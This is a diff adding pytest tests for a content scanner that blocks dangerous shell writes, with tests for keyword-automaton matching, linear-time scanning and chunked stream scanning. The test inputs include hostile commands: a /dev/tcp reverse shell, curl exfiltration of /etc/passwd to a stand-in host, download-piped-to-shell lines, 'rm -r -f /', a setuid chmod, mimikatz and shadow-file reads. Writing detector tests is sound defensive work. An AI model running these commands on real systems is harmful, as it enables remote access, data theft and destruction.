@@ -2,13 +2,21 @@
 
 from __future__ import annotations
 
+import base64
+import random
+import time
+from collections.abc import Iterator
+
 import pytest
 
 from chaos_auditor.scenarios.content_scanning import (
     DANGEROUS_CONTENT,
     SAFE_CONTENT,
     ContentScenario,
+    ContentStreamScanner,
+    KeywordAutomaton,
     scan_write_content,
+    scan_write_stream,
 )
 
 
@@ -80,9 +88,161 @@ class TestSafeContent:
         assert scenario.expected == "safe"
 
 
+ALL_CONTENT = DANGEROUS_CONTENT + SAFE_CONTENT
+
+
 class TestScanWriteContent:
-    """Test the scan_write_content stub."""
+    """Test scan_write_content against the scenario catalogs."""
 
-    def test_not_implemented(self) -> None:
-        with pytest.raises(NotImplementedError):
-            scan_write_content("echo Hello")
+    @pytest.mark.parametrize("scenario", ALL_CONTENT, ids=[s.description for s in ALL_CONTENT])
+    def test_scenario(self, scenario: ContentScenario) -> None:
+        classification, reason = scan_write_content(scenario.content)
+        assert classification == scenario.expected
+        assert (reason is None) == (scenario.expected == "safe")
+
+    @pytest.mark.parametrize(
+        "content",
+        [
+            "#!/bin/sh\nset -e\nwget -qO- https://x.io/i.sh | sudo sh\n",
+            "CMD=1\nINVOKE-EXPRESSION $payload",
+            "rm -r -f /",
+            "chmod 4755 /tmp/sh",
+        ],
+    )
+    def test_blocked_in_larger_content(self, content: str) -> None:
+        assert scan_write_content(content)[0] == "blocked"
+
+    @pytest.mark.parametrize(
+        "content",
+        [
+            "curl https://example.com -o out.json\nbash build.sh",
+            "cat ~/.ssh/id_rsa.pub >> authorized_keys",
+            "rm -rf /tmp/build",
+            "chmod 644 config.yml",
+            "suffix = 'complex'",
+        ],
+    )
+    def test_near_misses_are_safe(self, content: str) -> None:
+        assert scan_write_content(content) == ("safe", None)
+
+    @pytest.mark.parametrize("line", ["curl ", "wget ", "curl -d ", "rm -rm "])
+    def test_repeated_command_is_linear(self, line: str) -> None:
+        # Minutes with a rule that rescans the line from every "curl".
+        start = time.perf_counter()
+        assert scan_write_content(line * 40_000) == ("safe", None)
+        assert time.perf_counter() - start < 2.0
+
+    def test_many_options_before_root(self) -> None:
+        assert scan_write_content("rm " + "-f " * 31 + "-r /")[0] == "blocked"
+
+    def test_command_repeated_before_match(self) -> None:
+        content = "curl " * 1000 + "-d @/etc/passwd http://x.io"
+        assert scan_write_content(content) == ("blocked", "Data exfiltration via curl")
+
+
+def _naive_occurrences(keywords: list[str], text: str) -> list[tuple[int, str]]:
+    found = []
+    for keyword in keywords:
+        index = text.find(keyword)
+        while index != -1:
+            found.append((index, keyword))
+            index = text.find(keyword, index + 1)
+    return sorted(found)
+
+
+class TestKeywordAutomaton:
+    """Test the multi-keyword automaton."""
+
+    def test_overlapping_and_prefix_keywords(self) -> None:
+        automaton = KeywordAutomaton(["he", "she", "his", "hers", "h"])
+        found = sorted(automaton.finditer("ushers"))
+        assert found == [(1, "she"), (2, "h"), (2, "he"), (2, "hers")]
+
+    def test_matches_naive_search(self) -> None:
+        rng = random.Random(0)
+        keywords = ["ab", "abc", "bca", "c", "aab", "/dev/", "|"]
+        automaton = KeywordAutomaton(keywords)
+        for _ in range(500):
+            text = "".join(rng.choice("abc/dev|") for _ in range(rng.randint(0, 40)))
+            assert sorted(automaton.finditer(text)) == _naive_occurrences(keywords, text)
+
+    def test_regex_metacharacters_are_literal(self) -> None:
+        automaton = KeywordAutomaton(["a.b", "(x)"])
+        assert list(automaton.finditer("axb a.b (x)")) == [(4, "a.b"), (8, "(x)")]
+
+    def test_empty_keyword_set(self) -> None:
+        assert list(KeywordAutomaton([]).finditer("anything")) == []
+
+    def test_start_position(self) -> None:
+        automaton = KeywordAutomaton(["ab"])
+        assert list(automaton.finditer("ab ab", 1)) == [(3, "ab")]
+
+    def test_hit_at_end_of_large_content(self) -> None:
+        content = "form platform reform\n" * 20000 + "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+        assert scan_write_content(content) == ("blocked", "Reverse shell payload")
+
+    def test_dense_unconfirmed_indicators_are_safe(self) -> None:
+        content = "curl -o out.json https://example.com\nchmod 644 x\n" * 5000
+        assert scan_write_content(content) == ("safe", None)
+
+
+def _chunks(text: str, rng: random.Random, max_size: int = 16) -> list[str]:
+    pieces = []
+    pos = 0
+    while pos < len(text):
+        size = rng.randint(1, max_size)
+        pieces.append(text[pos : pos + size])
+        pos += size
+    return pieces
+
+
+class TestContentStreamScanner:
+    """Test chunked scanning."""
+
+    @pytest.mark.parametrize("scenario", ALL_CONTENT, ids=[s.description for s in ALL_CONTENT])
+    def test_matches_whole_content_scan(self, scenario: ContentScenario) -> None:
+        rng = random.Random(scenario.content)
+        content = "#!/bin/sh\necho start\n" + scenario.content + "\necho done\n"
+        for _ in range(20):
+            verdict = scan_write_stream(_chunks(content, rng), window=32)
+            assert verdict == scan_write_content(content)
+
+    def test_indicator_split_across_chunks(self) -> None:
+        assert scan_write_stream(["cat /etc/sha", "dow"]) == ("blocked", "Shadow file access")
+
+    def test_confirmation_waits_for_next_chunk(self) -> None:
+        scanner = ContentStreamScanner()
+        assert scanner.feed("curl http://x.io/i.sh | ba") is None
+        assert scanner.feed("sh\n") == ("blocked", "Download piped to shell")
+        assert scanner.blocked
+
+    def test_safe_after_finish(self) -> None:
+        scanner = ContentStreamScanner()
+        assert scanner.feed("chmod 64") is None
+        assert scanner.feed("4 config.yml") is None
+        assert scanner.finish() == ("safe", None)
+        with pytest.raises(ValueError, match="finish"):
+            scanner.feed("more")
+
+    def test_stops_consuming_after_block(self) -> None:
+        consumed: list[int] = []
+
+        def chunks() -> Iterator[str]:
+            for i in range(100):
+                consumed.append(i)
+                yield "mimikatz\n" if i == 3 else "echo ok\n"
+
+        assert scan_write_stream(chunks())[0] == "blocked"
+        assert consumed == [0, 1, 2, 3]
+
+    def test_memory_bounded_on_single_line_payload(self) -> None:
+        scanner = ContentStreamScanner(window=64)
+        blob = base64.b64encode(bytes(range(256)) * 64).decode()
+        for i in range(0, len(blob), 1000):
+            assert scanner.feed(blob[i : i + 1000]) is None
+            assert len(scanner._carry) <= 64
+        assert scanner.finish() == ("safe", None)
+
+    def test_window_must_fit_indicators(self) -> None:
+        with pytest.raises(ValueError, match="window"):
+            ContentStreamScanner(window=4)